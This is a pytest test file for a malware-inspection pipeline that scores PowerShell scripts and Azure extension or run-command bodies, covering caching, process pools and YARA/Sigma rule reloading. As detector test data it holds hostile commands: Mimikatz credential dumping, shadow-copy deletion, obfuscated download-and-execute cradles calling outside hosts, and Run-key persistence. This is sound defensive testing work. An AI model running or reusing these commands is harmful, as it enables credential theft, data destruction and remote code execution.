"""The pipeline orders the stages: understand, fetch, analyse (reusing cached trees), fetch
second stages, score; with or without a process pool it reaches the same verdict."""

from __future__ import annotations

import base64

import pytest

from inspector.config import load_settings
from inspector.extensions.request import InputKind, InspectionInput
from inspector.model import ArtifactType, VerdictClass
from inspector.pipeline import Inspector


@pytest.fixture
def offline_settings(tmp_path, monkeypatch):  # type: ignore[no-untyped-def]
    monkeypatch.setenv("INSPECTOR_FETCH", "false")
    monkeypatch.setenv("INSPECTOR_DATA_DIR", str(tmp_path))
    return load_settings()


async def test_inspector_gives_a_verdict_for_a_script_in_process(offline_settings) -> None:  # type: ignore[no-untyped-def]
    inspector = await Inspector.start(offline_settings, workers=0)
    try:
        result = await inspector.inspect(InspectionInput(kind=InputKind.SCRIPT, content=b"Invoke-Mimikatz -DumpCreds"))
    finally:
        await inspector.close()
    verdict = result.verdict
    assert verdict.verdict in (VerdictClass.SUSPICIOUS, VerdictClass.MALICIOUS)
    assert "yara.core.mimikatz" in {f.id for f in verdict.findings}
    assert verdict.signatures.version == inspector.ruleset.version
    assert verdict.artifacts[0].sha256 in result.blobs


async def test_inspector_in_a_process_pool_gives_the_same_verdict(offline_settings) -> None:  # type: ignore[no-untyped-def]
    script = InspectionInput(kind=InputKind.SCRIPT, content=b"vssadmin delete shadows /all /quiet")
    inline = await Inspector.start(offline_settings, workers=0)
    pooled = await Inspector.start(offline_settings, workers=1)
    try:
        a = (await inline.inspect(script)).verdict
        b = (await pooled.inspect(script)).verdict
    finally:
        await inline.close()
        await pooled.close()
    assert (a.verdict, a.score, [f.id for f in a.findings]) == (b.verdict, b.score, [f.id for f in b.findings])


async def test_urls_are_listed_as_not_fetched_when_fetching_is_off(offline_settings) -> None:  # type: ignore[no-untyped-def]
    inspector = await Inspector.start(offline_settings, workers=0)
    try:
        result = await inspector.inspect(InspectionInput(kind=InputKind.URL, url="https://example.org/run.ps1"))
    finally:
        await inspector.close()
    verdict = result.verdict
    assert verdict.complete is False
    assert [(f.url, f.error) for f in verdict.fetches] == [("https://example.org/run.ps1", "fetch_disabled")]
    assert {e.kind for e in verdict.errors} == {"not_fetched"}


class MemoryCache:
    """An AnalysisCache in a dict, counting what it was asked."""

    def __init__(self, fail: bool = False) -> None:
        self.trees: dict[tuple[str, str], object] = {}
        self.gets = self.hits = self.puts = 0
        self.fail = fail

    async def get_tree(self, root_sha256: str, key: str):  # type: ignore[no-untyped-def]
        self.gets += 1
        if self.fail:
            raise ConnectionError("cache down")
        tree = self.trees.get((root_sha256, key))
        self.hits += tree is not None
        return tree

    async def put_tree(self, root_sha256: str, key: str, tree) -> None:  # type: ignore[no-untyped-def]
        if self.fail:
            raise ConnectionError("cache down")
        self.puts += 1
        self.trees[(root_sha256, key)] = tree


ENCODED = base64.b64encode("Invoke-Mimikatz -DumpCreds".encode("utf-16-le")).decode()
CSE_BODY = {"properties": {"publisher": "Microsoft.Compute", "type": "CustomScriptExtension",
                           "typeHandlerVersion": "1.10",
                           "settings": {"commandToExecute": f"powershell -EncodedCommand {ENCODED}"}}}


def comparable(verdict):  # type: ignore[no-untyped-def]
    return verdict.model_dump(exclude={"id", "elapsed_ms", "created_at"})


async def test_a_payload_seen_before_is_not_analysed_again_and_gets_the_same_verdict(offline_settings) -> None:  # type: ignore[no-untyped-def]
    cache = MemoryCache()
    inspector = await Inspector.start(offline_settings, workers=0, cache=cache)
    request = InspectionInput(kind=InputKind.EXTENSION, body=CSE_BODY)
    try:
        first = (await inspector.inspect(request)).verdict
        again = await inspector.inspect(request)
        second = again.verdict
    finally:
        await inspector.close()
    assert (cache.puts, cache.hits) == (1, 1)
    assert second.artifacts[0].sha256 in again.blobs
    assert comparable(first) == comparable(second)
    assert len(second.artifacts) >= 2 and second.verdict != VerdictClass.CLEAN


async def test_the_same_bytes_in_another_request_field_are_placed_where_they_are_now(offline_settings) -> None:  # type: ignore[no-untyped-def]
    cache = MemoryCache()
    inspector = await Inspector.start(offline_settings, workers=0, cache=cache)
    script = b"Invoke-Mimikatz -DumpCreds"
    try:
        await inspector.inspect(InspectionInput(kind=InputKind.SCRIPT, content=script,
                                                language=ArtifactType.POWERSHELL))
        run_command = {"commandId": "RunPowerShellScript", "script": ["Invoke-Mimikatz -DumpCreds"]}
        verdict = (await inspector.inspect(InspectionInput(kind=InputKind.RUN_COMMAND, body=run_command))).verdict
    finally:
        await inspector.close()
    assert cache.hits == 1
    root = verdict.artifacts[0]
    assert (root.role, root.origin) == ("run_command_script", "script")
    assert [a.alertType for a in verdict.alerts] == ["VM_RunCommandSuspiciousScript"]


async def test_new_rules_or_settings_miss_the_cache(offline_settings, tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    cache = MemoryCache()
    request = InspectionInput(kind=InputKind.SCRIPT, content=b"Get-Date")
    first = await Inspector.start(offline_settings, workers=0, cache=cache)
    await first.inspect(request)
    await first.close()
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "x.yar").write_text('rule x { meta: id = "op.x" score = 500 strings: $a = "Get-Date" condition: $a }')
    monkeypatch.setenv("INSPECTOR_SIGNATURE_DIRS", str(rules))
    second = await Inspector.start(load_settings(), workers=0, cache=cache)
    verdict = (await second.inspect(request)).verdict
    await second.close()
    assert "op.x" in {f.id for f in verdict.findings}
    assert cache.hits == 0 and cache.puts == 2


async def test_incomplete_analyses_are_not_cached_and_a_broken_cache_is_only_a_miss(offline_settings) -> None:  # type: ignore[no-untyped-def]
    cache = MemoryCache()
    inspector = await Inspector.start(offline_settings.model_copy(update={"max_artifacts": 1}), workers=0, cache=cache)
    try:
        await inspector.inspect(InspectionInput(kind=InputKind.EXTENSION, body=CSE_BODY))
    finally:
        await inspector.close()
    assert cache.puts == 0
    broken = await Inspector.start(offline_settings, workers=0, cache=MemoryCache(fail=True))
    try:
        verdict = (await broken.inspect(InspectionInput(kind=InputKind.SCRIPT, content=b"Invoke-Mimikatz"))).verdict
    finally:
        await broken.close()
    assert verdict.verdict != VerdictClass.CLEAN


async def test_warm_up_has_nothing_to_start_when_analysis_runs_in_process(offline_settings) -> None:  # type: ignore[no-untyped-def]
    inline = await Inspector.start(offline_settings, workers=0)
    try:
        assert await inline.warm_up() == 0
    finally:
        await inline.close()


async def test_reloading_signatures_changes_the_analysis_version(offline_settings, tmp_path) -> None:  # type: ignore[no-untyped-def]
    rules = tmp_path / "rules"
    rules.mkdir()
    settings = offline_settings.model_copy(update={"signature_dirs": [rules]})
    inspector = await Inspector.start(settings, workers=0)
    try:
        before = inspector.analysis_version
        (rules / "x.yar").write_text('rule x { meta: id = "op.x" score = 500 strings: $a = "Get-Date" '
                                     'condition: $a }')
        await inspector.reload_signatures()
        result = await inspector.inspect(InspectionInput(kind=InputKind.SCRIPT, content=b"Get-Date"))
    finally:
        await inspector.close()
    assert inspector.analysis_version != before
    assert "op.x" in {f.id for f in result.verdict.findings}


async def test_reloading_with_a_broken_sigma_rule_keeps_the_others_and_names_it(offline_settings, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from tests.sigma.helpers import rule_yaml

    sigma = tmp_path / "sigma"
    sigma.mkdir()
    settings = offline_settings.model_copy(update={"sigma_dirs": [sigma]})
    inspector = await Inspector.start(settings, workers=0)
    try:
        before = inspector.analysis_version
        (sigma / "good.yml").write_text(rule_yaml(
            "sel:\n  ScriptBlockText|contains: 'Get-Date -Format'\ncondition: sel", category="ps_script",
            rule_id="6e5d4c3b-2a19-4807-9f6e-5d4c3b2a1908"))
        (sigma / "broken.yml").write_text(rule_yaml("sel:\n  ScriptBlockText: x\ncondition: sel and nothing",
                                                    category="ps_script"))
        await inspector.reload_signatures()
        result = await inspector.inspect(InspectionInput(kind=InputKind.SCRIPT, content=b"Get-Date -Format o\n",
                                                         language=ArtifactType.POWERSHELL))
    finally:
        await inspector.close()
    assert inspector.analysis_version != before
    assert [p.path for p in inspector.ruleset.sigma.errors] == [str(sigma / "broken.yml")]
    assert "sigma.6e5d4c3b-2a19-4807-9f6e-5d4c3b2a1908" in {f.id for f in result.verdict.findings}


def _b64_iex(script: str) -> str:
    blob = base64.b64encode(script.encode()).decode()
    return f"iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('{blob}')))"


_DROPPER = "Invoke-WebRequest -Uri https://files.example.net/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe"


@pytest.mark.parametrize("script", [
    '(New-Object System.Net.WebClient).DownloadFile("http://203.0.113.7/a.exe","$env:TEMP\\a.exe"); '
    'Start-Process "$env:TEMP\\a.exe"',
    _DROPPER,
    _b64_iex(_DROPPER),
    "powershell -enc " + base64.b64encode(_DROPPER.encode("utf-16-le")).decode(),
    "$a='Down'+'loadStr'+'ing';$w=New-Object ('Net.'+'WebC'+'lient');iex ($w.$a('http://91.215.85.17/s'))",
    '$RunKey = "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"; Set-ItemProperty -Path $RunKey -Name upd '
    '-Value "powershell.exe -windowstyle hidden -ExecutionPolicy Bypass -File C:\\Users\\Public\\u.ps1"',
])
async def test_the_clean_examples_of_issue_14_are_flagged(offline_settings, script: str) -> None:  # type: ignore[no-untyped-def]
    inspector = await Inspector.start(offline_settings, workers=0)
    try:
        result = await inspector.inspect(InspectionInput(kind=InputKind.SCRIPT, content=script.encode(),
                                                         filename="x.ps1"))
    finally:
        await inspector.close()
    assert result.verdict.verdict in (VerdictClass.SUSPICIOUS, VerdictClass.MALICIOUS)
